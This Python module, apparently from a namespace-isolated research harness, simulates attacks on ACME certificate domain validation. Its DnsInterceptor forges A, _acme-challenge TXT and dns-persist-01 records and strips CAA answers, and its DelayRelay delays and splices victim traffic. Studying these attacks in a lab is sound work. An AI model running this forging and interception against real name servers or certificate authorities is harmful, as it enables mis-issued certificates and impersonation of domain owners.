"""simservers: the victim's and the attacker's challenge servers, and the attacker's DNS.

Each server is a thread of the harness whose listening socket was created inside the host's
namespace (simnet.in_netns), so it serves only that namespace's addresses:
- ChallengeWeb: HTTP-01 on port 80, answers /.well-known/acme-challenge/<token> with the
  key authorization of its owner (the domain owner's, or the attacker's);
- AlpnServer: TLS-ALPN-01 on port 443 (RFC 8737): per SNI name a self-signed certificate with
  one SAN and the critical acmeIdentifier extension holding SHA-256(key authorization);
- DnsInterceptor: the attacker's DNS on the victim's name-server addresses. It forwards every
  query to the victim's real server (over the attacker's own path) and, per mode, rewrites
  the answer in place: "forge" replaces A rdata with the attacker's web address and
  _acme-challenge TXT with the attacker's digest, the owner's dns-persist-01 record
  (_validation-persist TXT) with one naming the attacker's account, and strips CAA;
  "strip-caa" only strips CAA.
  Signed zones: the victim's RRSIGs no longer match (or NSEC proves the CAA exists), so a
  validating resolver sees bogus data.
- DelayRelay: the attacker's delaying relay (attack kind "delay") on the relay host, which holds
  the victim's addresses too. TCP 80/443: accepts, waits delay_ms, connects to the victim's
  real server and splices bytes both ways; UDP 53: waits delay_ms, forwards the query to the
  victim's real name server (the interceptor's forward_query) and relays the answer. A deadline
  longer than the delay still gets the owner's genuine answer.
"""

import base64
import hashlib
import http.server
import os
import random
import select
import socket
import socketserver
import ssl
import struct
import subprocess
import threading
import time

from simnet import in_netns
from simfleet import dnslab  # sys.path set up there

_skip_name = dnslab._skip_name

TYPE_A, TYPE_TXT, TYPE_CAA = 1, 16, 257
NODATA_TYPE = 65280  # private-use type: the victim's server answers NODATA (with NSEC if signed)


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def txt_digest(key_authorization):
    """DNS-01 TXT value (RFC 8555 §8.4)."""
    return b64url(hashlib.sha256(key_authorization.encode()).digest())


class _Handler(http.server.BaseHTTPRequestHandler):
    timeout = 5
    protocol_version = "HTTP/1.0"

    def do_GET(self):  # noqa: N802 (http.server API)
        prefix = "/.well-known/acme-challenge/"
        body, status = b"not found\n", 404
        if self.path.startswith(prefix) and self.path[len(prefix):] == self.server.token:
            body, status = self.server.key_authorization.encode(), 200
        self.send_response(status)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class _ThreadingHttp(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


class _ThreadingTcp(socketserver.ThreadingMixIn, socketserver.TCPServer):
    daemon_threads = True
    allow_reuse_address = True


class _Served:
    """A socketserver running on a daemon thread; stop() is bounded."""

    def __init__(self, server):
        self.server = server
        self.thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.2},
                                       daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


def start_web(netns, token, key_authorization):
    with in_netns(netns):
        server = _ThreadingHttp(("0.0.0.0", 80), _Handler)
    server.token, server.key_authorization = token, key_authorization
    return _Served(server)


def make_alpn_cert(directory, name, key_authorization, timeout=20):
    """Self-signed RFC 8737 certificate: SAN = name, critical acmeIdentifier (OID ...1.31)."""
    digest = hashlib.sha256(key_authorization.encode()).hexdigest()
    base = os.path.join(directory, name)
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
         "-nodes", "-keyout", base + ".key", "-out", base + ".pem", "-days", "2",
         "-subj", f"/CN={name}", "-addext", f"subjectAltName=DNS:{name}",
         "-addext", f"1.3.6.1.5.5.7.1.31=critical,DER:0420{digest}"],
        check=True, capture_output=True, timeout=timeout)
    return base + ".pem", base + ".key"


class _AlpnHandler(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(5)
        try:
            with self.server.default_ctx.wrap_socket(self.request, server_side=True) as tls:
                tls.recv(1)  # until the client closes
        except (OSError, ssl.SSLError):
            pass


def start_alpn(netns, certs):
    """certs: {sni name: (cert file, key file)}."""
    contexts = {}
    for name, (cert, key) in certs.items():
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        ctx.set_alpn_protocols(["acme-tls/1"])
        contexts[name.lower()] = ctx
    default = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    first = next(iter(certs.values()))
    default.load_cert_chain(*first)
    default.set_alpn_protocols(["acme-tls/1"])

    def pick(sslobj, server_name, _ctx):
        if server_name and server_name.lower() in contexts:
            sslobj.context = contexts[server_name.lower()]
    default.sni_callback = pick
    with in_netns(netns):
        server = _ThreadingTcp(("0.0.0.0", 443), _AlpnHandler)
    server.default_ctx = default
    return _Served(server)


# --- DNS ---------------------------------------------------------------------------------


def _read_name(msg, off):
    labels = []
    for _ in range(128):
        n = msg[off]
        if n == 0:
            return ".".join(labels).lower() + "."
        if n & 0xC0 == 0xC0:
            off = ((n & 0x3F) << 8) | msg[off + 1]
            continue
        labels.append(msg[off + 1:off + 1 + n].decode("ascii", "replace"))
        off += 1 + n
    raise ValueError("name loop")


def answer_records(msg):
    """[(owner, type, rdata offset, rdata length)] of the answer section."""
    _, _, qd, an, _, _ = struct.unpack("!HHHHHH", msg[:12])
    off = 12
    for _ in range(qd):
        off = _skip_name(msg, off) + 4
    out = []
    for _ in range(an):
        owner = _read_name(msg, off)
        off = _skip_name(msg, off)
        rtype, _, _, rdlen = struct.unpack("!HHIH", msg[off:off + 10])
        out.append((owner, rtype, off + 10, rdlen))
        off += 10 + rdlen
    return out


def question(msg):
    off = _skip_name(msg, 12)
    qtype = struct.unpack("!H", msg[off:off + 2])[0]
    return _read_name(msg, 12), qtype, off


def forward_query(up, query, upstream, timeout=1.0):
    """Sends `query` to `upstream` over UDP socket `up` under a fresh ID; returns the answer
    with the client's ID, or None. Raises OSError (socket.timeout) when nothing comes back."""
    qid = random.randrange(65536)
    up.settimeout(timeout)
    up.sendto(struct.pack("!H", qid) + query[2:], upstream)
    for _ in range(16):
        msg, _ = up.recvfrom(65535)
        if msg[:2] == struct.pack("!H", qid):
            return query[:2] + msg[2:]
    return None


class DnsInterceptor:
    """The attacker's DNS on one hijacked name-server address (UDP)."""

    def __init__(self, netns, listen, upstream, forged_a, forged_txt, forged_persist=None):
        """forged_persist(width): the attacker's dns-persist-01 value of exactly `width`
        octets, or None when it cannot be made that long (the record is then left alone)."""
        self.upstream = (upstream, 53)
        self.forged_a = socket.inet_aton(forged_a)
        self.forged_txt = forged_txt.encode()
        self.forged_persist = forged_persist
        self.mode = "forge"
        self.stopping = threading.Event()
        with in_netns(netns):
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.sock.bind((listen, 53))
            # Its own path to the victim: created in the attacker's namespace, never elsewhere.
            self.up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.settimeout(0.2)
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self):
        while not self.stopping.is_set():
            try:
                query, client = self.sock.recvfrom(4096)
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                reply = self._answer(query)
            except (ValueError, IndexError, struct.error, OSError):
                reply = None
            if reply is not None:
                try:
                    self.sock.sendto(reply, client)
                except OSError:
                    pass

    def _forward(self, query):
        return forward_query(self.up, query, self.upstream)

    def _answer(self, query):
        _, qtype, qoff = question(query)
        if qtype == TYPE_CAA:  # strip: ask for an absent type, give its NODATA as CAA's
            q = bytearray(query)
            q[qoff:qoff + 2] = struct.pack("!H", NODATA_TYPE)
            reply = self._forward(bytes(q))
            if reply is None:
                return None
            r = bytearray(reply)
            _, _, roff = question(reply)
            r[roff:roff + 2] = struct.pack("!H", TYPE_CAA)
            return bytes(r)
        reply = self._forward(query)
        if reply is None or self.mode != "forge":
            return reply
        r = bytearray(reply)
        for owner, rtype, off, length in answer_records(reply):
            if rtype == TYPE_A and length == 4:
                r[off:off + 4] = self.forged_a
            elif (rtype == TYPE_TXT and owner.startswith("_acme-challenge.")
                  and length == 1 + len(self.forged_txt)):
                r[off + 1:off + length] = self.forged_txt
            elif (rtype == TYPE_TXT and owner.startswith("_validation-persist.")
                  and self.forged_persist is not None and 1 < length <= 256
                  and reply[off] == length - 1):
                # One character-string: replaced in place by the attacker's record padded to
                # the same length, so no offset or compression pointer moves.
                forged = self.forged_persist(length - 1)
                if forged is not None:
                    r[off + 1:off + length] = forged.encode()
        return bytes(r)

    def stop(self):
        self.stopping.set()
        self.thread.join(timeout=5)
        self.sock.close()
        self.up.close()


class DelayRelay:
    """The attacker's delaying relay, for one delay attack; stop() before the next.

    Listens inside `netns` (the relay host) on `web` ports 80 and 443 and on UDP 53 of each
    address in `dns` ({listen address: the real server's address}); `web_backend` is the real
    web server's address. Every connection or query is held `delay_ms`, then forwarded through
    the core to the real victim. All waits are on one event (stop() ends them at once) and
    bounded; every socket is closed by the thread that uses it, or by stop().
    """

    POLL_S = 0.2
    CONNECT_S = 2.0
    SESSION_S = 20.0  # the longest a spliced connection may live
    MAX_SESSIONS = 256

    def __init__(self, netns, delay_ms, web, web_backend, dns):
        self.delay_s = delay_ms / 1000.0
        self.stopping = threading.Event()
        self.lock = threading.Lock()
        self.open = set()      # session sockets, shut down by stop()
        self.sessions = []
        self.listeners = {}    # listening socket -> (handler, the real server's address)
        self.held = 0          # connections and queries received
        self.forwarded = 0     # ... of which the real server's answer was relayed back
        try:
            with in_netns(netns):
                for port in (80, 443):
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    self.listeners[s] = (self._splice, (web_backend, port))
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    s.bind((web, port))
                    s.listen(64)
                for listen, backend in dns.items():
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    self.listeners[s] = (self._relay_query, (backend, 53))
                    s.bind((listen, 53))
        except OSError:
            self._close(self.listeners)
            raise
        self.thread = threading.Thread(target=self._serve, args=(netns,), daemon=True)
        self.thread.start()

    @staticmethod
    def _close(socks):
        for s in list(socks):
            try:
                s.close()
            except OSError:
                pass

    def _serve(self, netns):
        # The whole thread lives in the relay's namespace, so the session threads it starts
        # (and their sockets to the victim) are born there too.
        with in_netns(netns):
            while not self.stopping.is_set():
                try:
                    ready = select.select(list(self.listeners), [], [], self.POLL_S)[0]
                except (OSError, ValueError):
                    return
                for s in ready:
                    handler, upstream = self.listeners[s]
                    try:
                        if s.type == socket.SOCK_STREAM:
                            conn, _ = s.accept()
                            args = (conn, upstream)
                        else:
                            query, client = s.recvfrom(4096)
                            conn, args = None, (s, query, client, upstream)
                    except OSError:
                        continue
                    self._start(handler, args, conn)

    def _start(self, handler, args, conn):
        with self.lock:
            self.sessions = [t for t in self.sessions if t.is_alive()]
            if len(self.sessions) >= self.MAX_SESSIONS or self.stopping.is_set():
                self._close([conn] if conn else [])
                return
            self.held += 1
            if conn is not None:
                self.open.add(conn)
            t = threading.Thread(target=handler, args=args, daemon=True)
            self.sessions.append(t)
        t.start()

    def _track(self, sock):
        with self.lock:
            self.open.add(sock)
        return sock

    def _done(self, *socks):
        with self.lock:
            self.open.difference_update(socks)
        self._close(s for s in socks if s is not None)

    def _count(self):
        with self.lock:
            self.forwarded += 1

    def stats(self):
        with self.lock:
            return {"held": self.held, "forwarded": self.forwarded}

    def _splice(self, conn, upstream):
        """TCP: hold, then connect to the real server and copy bytes both ways until both
        sides are done (half-closes passed on), stop(), or SESSION_S."""
        up = None
        try:
            if self.stopping.wait(self.delay_s):
                return
            up = self._track(socket.create_connection(upstream, timeout=self.CONNECT_S))
            conn.settimeout(self.CONNECT_S)  # bounds sendall() to a peer that stopped reading
            peer = {conn: up, up: conn}
            reading = [conn, up]
            answered = False
            deadline = time.monotonic() + self.SESSION_S
            while reading and not self.stopping.is_set() and time.monotonic() < deadline:
                for s in select.select(reading, [], [], self.POLL_S)[0]:
                    data = s.recv(65536)
                    if data:
                        peer[s].sendall(data)
                        if s is up and not answered:
                            answered = True
                            self._count()
                        continue
                    reading.remove(s)
                    try:
                        peer[s].shutdown(socket.SHUT_WR)
                    except OSError:
                        pass
        except (OSError, ValueError):
            pass
        finally:
            self._done(conn, up)

    def _relay_query(self, listener, query, client, upstream):
        """UDP DNS: hold, then ask the real name server and send its answer back."""
        if self.stopping.wait(self.delay_s):
            return
        up = self._track(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        try:
            reply = forward_query(up, query, upstream)
            if reply is not None and not self.stopping.is_set():
                listener.sendto(reply, client)
                self._count()
        except (OSError, ValueError):
            pass
        finally:
            self._done(up)

    def stop(self, timeout=5.0):
        """Ends every wait and session, closes every socket; bounded by `timeout`."""
        self.stopping.set()
        self.thread.join(timeout=timeout)
        with self.lock:
            sessions, socks = list(self.sessions), list(self.open)
        for s in socks:  # wakes sessions blocked on these sockets
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
        deadline = time.monotonic() + timeout
        for t in sessions:
            t.join(timeout=max(0.0, deadline - time.monotonic()))
        with self.lock:
            socks = list(self.open)
            self.open.clear()
        self._close(socks)
        self._close(self.listeners)
